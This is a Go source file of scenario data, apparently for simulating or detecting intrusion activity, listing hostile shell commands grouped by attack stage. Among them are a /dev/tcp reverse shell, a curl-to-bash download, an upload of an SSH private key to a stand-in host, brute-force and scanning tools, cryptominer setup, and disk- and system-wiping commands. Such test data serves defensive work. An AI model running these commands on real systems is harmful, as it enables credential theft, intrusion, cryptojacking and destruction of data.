package script

// wallet has the form of an address of Monero, and is none.
const wallet = "4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"

// Who looks for passwords and keys.
var credentials = map[string]Scene{
	"secret-search":  {Lines: []string{"find / -name id_rsa*", "grep -rniI password /home /var/www"}},
	"login-tracing":  {Lines: []string{"strace -ff -e trace=read,write -o /tmp/.l /usr/sbin/sshd -D"}},
	"guessing-tool":  {Lines: []string{"hydra -L users.txt -P words.txt ssh://198.51.100.7"}},
	"shell-history":  {Lines: []string{"grep -h ssh /root/.bash_history"}},
	"encoded-secret": {Lines: []string{"base64 /root/.ssh/id_ed25519"}, Files: []string{"/root/.ssh/id_ed25519"}},
}

// Who looks around.
var discovery = map[string]Scene{
	"survey": {Lines: []string{
		"whoami", "id", "uname -a", "ip addr", "netstat -antp", "ps aux", "cat /etc/passwd", "w", "lastlog", "df -h",
	}},
	"privileged-programs": {Lines: []string{"find / -perm -4000 -type f", "getcap -r /"}},
	"security-tools":      {Lines: []string{"pgrep falcon-sensor", "systemctl status auditd", "ls /usr/local/aegis", "pidof clamd"}},
	"scanning-tool":       {Lines: []string{"masscan 203.0.113.0/24 -p6379 --rate 100"}},
	"shares":              {Lines: []string{"smbclient -N -L 198.51.100.7", "showmount -e 198.51.100.7"}},
}

// Who goes on to other machines.
var lateral = map[string]Scene{
	"ssh-loop": {Lines: []string{
		"ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@203.0.113.1 id", "ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@203.0.113.2 id",
		"ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@203.0.113.3 id", "ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@203.0.113.4 id",
		"ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@203.0.113.5 id",
	}},
	"known-machines": {Lines: []string{
		"awk '{print $1}' /root/.ssh/known_hosts", "ssh -oBatchMode=yes -oStrictHostKeyChecking=no -oConnectTimeout=5 root@203.0.113.1 id",
	}},
	"ssh-download": {Lines: []string{"ssh root@203.0.113.1 'curl -s http://nobody.invalid/x | bash'"}},
}

// Who puts together what there is, and takes it away.
var collection = map[string]Scene{
	"packed-secrets":  {Lines: []string{"tar czf /tmp/.a.tgz /root/.ssh /root/.aws"}},
	"staged-secrets":  {Lines: []string{"cp -r /root/.ssh /dev/shm/.x"}},
	"document-search": {Lines: []string{"find /home -name *.docx -o -name *.xlsx -o -name *.pdf"}},
	"screen":          {Lines: []string{"import -window root /tmp/a.png"}},
	"clipboard":       {Lines: []string{"xclip -selection clipboard -o"}},
	"recording":       {Lines: []string{"arecord -d 60 /tmp/a.wav"}},
	"uploaded-secret": {Lines: []string{"curl -s -F f=@/root/.ssh/id_rsa http://nobody.invalid/u"}},
	"cloud-copy":      {Lines: []string{"rclone copy /srv drive:x"}},
}

// Who lets others in.
var control = map[string]Scene{
	"tunnel-program":        {Lines: []string{"chisel client 198.51.100.7:8080 R:socks"}},
	"ssh-tunnel":            {Lines: []string{"ssh -fN -R 2222:localhost:22 -o StrictHostKeyChecking=no a@198.51.100.7"}},
	"open-door":             {Lines: []string{"telnetd -p 2323 -l /bin/sh"}},
	"reverse-shell-command": {Lines: []string{"bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"}},
}

// Who uses the machine up, or spoils it.
var impact = map[string]Scene{
	"kinsing":             {Lines: []string{"kdevtmpfsi"}},
	"huge-pages":          {Lines: []string{"sysctl -w vm.nr_hugepages=1280"}},
	"processor-registers": {Lines: []string{"modprobe msr allow_writes=on"}},
	"wallet-argument":     {Lines: []string{"worker -u " + wallet + ".rig -p x"}},
	"wipes-system":        {Lines: []string{"rm -rf --no-preserve-root /"}},
	"wipes-disks":         {Lines: []string{"dd if=/dev/zero of=/dev/sda bs=1M"}},
	"ends-rivals":         {Lines: []string{"pkill -9 -f xmrig", "pkill -9 -f kdevtmpfsi", "killall minerd", "pkill -f donate-level"}},
	"blocks-rivals":       {Lines: []string{"iptables -A OUTPUT -p tcp --dport 3333 -j DROP"}},
	"proxyware-program":   {Lines: []string{"worker -tou-accept -email nobody@nobody.invalid -pass x -device y"}},
	"flood-tool":          {Lines: []string{"hping3 -S --flood -p 80 198.51.100.7"}},
	"locks-accounts":      {Lines: []string{"passwd -l a", "passwd -l b", "passwd -l c", "passwd -l d"}},
	"stops-services": {Lines: []string{
		"systemctl stop mysqld", "systemctl stop postgresql", "systemctl stop mongod", "systemctl stop docker", "systemctl stop nginx",
	}},
}
